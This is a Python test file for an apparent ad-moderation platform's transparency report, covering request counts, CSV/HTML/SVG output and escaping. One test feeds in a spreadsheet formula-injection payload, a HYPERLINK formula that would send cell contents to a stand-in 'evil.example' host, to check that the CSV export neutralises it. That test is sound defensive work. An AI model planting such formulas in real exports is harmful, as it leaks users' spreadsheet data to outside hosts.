"""Transparency report numbers and renderings."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest

from adwarden.domain.errors import InputError
from adwarden.legal.model import RequestType
from adwarden.legal.transparency import RequestRow, bar_chart_svg, build_report, to_csv, to_html, write_report

ROWS = [
    RequestRow(RequestType.SUBPOENA, 2, True),
    RequestRow(RequestType.SUBPOENA, 1, False),
    RequestRow(RequestType.SUBPOENA, 3, True),
    RequestRow(RequestType.SEARCH_WARRANT, 1, True),
    RequestRow(RequestType.PRESERVATION, 4, False),
    RequestRow(RequestType.EMERGENCY, 1, False),
]


def _report():  # type: ignore[no-untyped-def]
    return build_report(
        date(2026, 1, 1), date(2026, 6, 30), ROWS, cybertip_reports=7, actioned={"escort": 12, "massage": 3, "": 1}
    )


def test_counts() -> None:
    data = _report().to_json()
    by = {r["type"]: r for r in data["requests_by_type"]}
    assert data["requests_total"] == 6
    assert by["subpoena"] == {
        "type": "subpoena",
        "label": "Subpoena",
        "requests": 3,
        "accounts_specified": 6,
        "requests_with_data_produced": 2,
        "percent_with_data_produced": 66.7,
    }
    assert by["search-warrant"]["percent_with_data_produced"] == 100.0
    assert by["foreign"]["requests"] == 0 and by["foreign"]["percent_with_data_produced"] is None
    assert data["preservation_requests"] == 1
    assert data["cybertip_reports_filed"] == 7
    assert data["posts_actioned_by_category"] == {"escort": 12, "massage": 3, "uncategorized": 1}
    assert data["posts_actioned_total"] == 16
    assert len(data["requests_by_type"]) == len(RequestType)


def test_csv_matches_json() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(_report()))))
    get = {(r["section"], r["key"], r["metric"]): r["value"] for r in rows}
    assert get[("requests", "subpoena", "requests")] == "3"
    assert get[("requests", "subpoena", "percent_with_data_produced")] == "66.7"
    assert get[("cybertipline", "", "reports_filed")] == "7"
    assert get[("posts_actioned", "escort", "posts")] == "12"


def test_html_has_inline_svg_charts_and_no_external_assets() -> None:
    html = to_html(_report())
    assert html.count("<svg") == 3
    assert not re.search(r"(src|href)=\"https?://", html) and "<script" not in html
    assert "Subpoena" in html


def test_chart_bars_are_proportional_and_escaped() -> None:
    svg = bar_chart_svg("t", [("a<b>", 10), ("b", 5), ("zero", 0)])
    widths = [float(w) for w in re.findall(r'<rect [^>]*width="([\d.]+)"', svg)]
    assert widths[0] == pytest.approx(2 * widths[1]) and widths[2] == 0
    assert "a&lt;b&gt;" in svg and "a<b>" not in svg


def test_bad_period() -> None:
    with pytest.raises(InputError, match="after it ends"):
        build_report(date(2026, 2, 1), date(2026, 1, 1), [], cybertip_reports=0, actioned={})


def test_write_report(tmp_path: Path) -> None:
    paths = write_report(_report(), tmp_path / "out")
    assert [p.name for p in paths] == ["transparency.json", "transparency.csv", "transparency.html"]
    assert json.loads(paths[0].read_text())["requests_total"] == 6


def test_csv_neutralises_formula_cells() -> None:
    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
    report = build_report(date(2026, 1, 1), date(2026, 6, 30), ROWS, cybertip_reports=1,
                          actioned={hostile: 2, "@SUM(1+1)": 1, "-2+3": 1, "escort": 4})
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    keys = {r[1] for r in rows if r[0] == "posts_actioned"}
    assert keys == {"'" + hostile, "'@SUM(1+1)", "'-2+3", "escort"}
    assert all(not cell.startswith(("=", "@", "+")) for row in rows for cell in row)
